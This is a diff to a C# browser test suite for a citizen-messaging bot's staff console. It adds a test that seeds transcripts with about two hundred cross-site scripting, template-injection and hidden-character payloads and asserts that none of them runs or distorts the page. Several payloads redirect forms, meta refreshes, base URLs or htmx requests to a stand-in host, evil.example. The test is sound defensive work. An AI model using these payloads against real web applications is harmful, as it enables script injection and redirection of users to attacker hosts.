@@ -1,5 +1,6 @@
 using Bot.Conversations;
 using Bot.Storage;
+using Bot.Transcripts;
 using Microsoft.AspNetCore.Mvc.RazorPages;
 using Microsoft.AspNetCore.Routing;
 using Microsoft.Extensions.DependencyInjection;
@@ -75,7 +76,44 @@ public sealed class ConsoleTests(BrowserStage stage)
         await words.EvaluateAsync("p => { const node = p.querySelector('[data-at]').firstChild; const range = document.createRange(); range.setStart(node, 0); range.setEnd(node, 8); const s = getSelection(); s.removeAllRanges(); s.addRange(range); }");
         await page.GetByRole(AriaRole.Button, new PageGetByRoleOptions { Name = "Keep as evidence" }).ClickAsync();
         await Assertions.Expect(page.Locator(".quote-line")).ToContainTextAsync("น้ำประปา");
+        await visit.GoAsync("/console/quotes");
+        await page.Locator($"a.open[href*='{id}']").ClickAsync();
+        await Assertions.Expect(page.Locator(".bubble.meant")).ToContainTextAsync("น้ำประปา");
         Assert.Empty(visit.Complaints);
+    }
+
+    /// <summary>Markup, script addresses, template and style tricks, and characters that turn or hide text, each in several dresses.</summary>
+    [BrowserFact]
+    public async Task What_citizens_send_never_runs_and_never_deforms_a_page()
+    {
+        string[] cores = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><b onmouseover=alert(1)>x", "javascript:alert(1)", "<iframe srcdoc='<script>alert(1)</script>'>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<style>*{display:none}</style>",
+            "</textarea></p></div></main><h1>x</h1>", "<a href='javascript:alert(1)'>x</a>", "<form action=//evil.example><button>x", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<math><mtext><img src=x onerror=alert(1)>", "<div hx-get=//evil.example hx-trigger=load>", "<input autofocus onfocus=alert(1)>",
+            "\u202Eevil\u202C", "\u2066\u2067\u2068x\u2069", "\u200B\u200C\u200D\uFEFFx", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "<!--", "]]>", "\\u003cscript\\u003e"];
+        string[] payloads = [.. cores.SelectMany(c => new[] { c, "เรื่อง " + c, c.ToUpperInvariant(), c + c, "\u200B" + c, c.Replace("<", "＜", StringComparison.Ordinal), string.Join(' ', c.ToCharArray().Take(30)), c + new string('a', 300) })];
+        Assert.Equal(200, payloads.Length);
+        var id = await StaffVisit.CitizenSaysAsync(stage, Story);
+        await stage.Services.GetRequiredService<Store>().WriteAsync(sql =>
+        {
+            foreach (var (payload, n) in payloads.Select((p, n) => (p, n)))
+                sql.Run("""
+                    insert into Activities (Id, ContactId, ConversationId, Channel, ExternalId, Direction, Kind, Text, State, At, DueAt, Attempts)
+                    select @0, ContactId, Id, Channel, @0, 0, 'text', @1, 3, LastAt, LastAt, 0 from Conversations where Id=@2
+                    """, $"{id}-{n}", payload, id);
+            StaffWork.Tag(sql, [id], "<img src=x onerror=alert(1)>", "x", 1);
+        });
+        await using var visit = await StaffVisit.SignInAsync(stage, "staff", "en");
+        var dialogs = 0;
+        visit.Page.Dialog += async (_, dialog) => { dialogs++; await dialog.DismissAsync(); };
+        await visit.GoAsync("/console/transcripts/" + id);
+        await Assertions.Expect(visit.Page.Locator(".bubble.citizen")).ToHaveCountAsync(payloads.Length + 4);
+        Assert.Equal(1, await visit.Page.Locator("h1").CountAsync());
+        Assert.Equal(0, await visit.Page.Locator(".words script, .words img, .words iframe, .words a, .words form, .words style").CountAsync());
+        await Assertions.Expect(visit.Page.Locator(".unseen-mark[data-mark='U+202E']").First).ToBeVisibleAsync();
+        await visit.GoAsync("/console/transcripts");
+        await Assertions.Expect(visit.Page.Locator("#line-" + id)).ToBeVisibleAsync();
+        Assert.Equal(0, dialogs);
+        Assert.Empty(visit.Complaints);
+        Assert.Empty(visit.Foreign);
     }
 
     [BrowserFact]
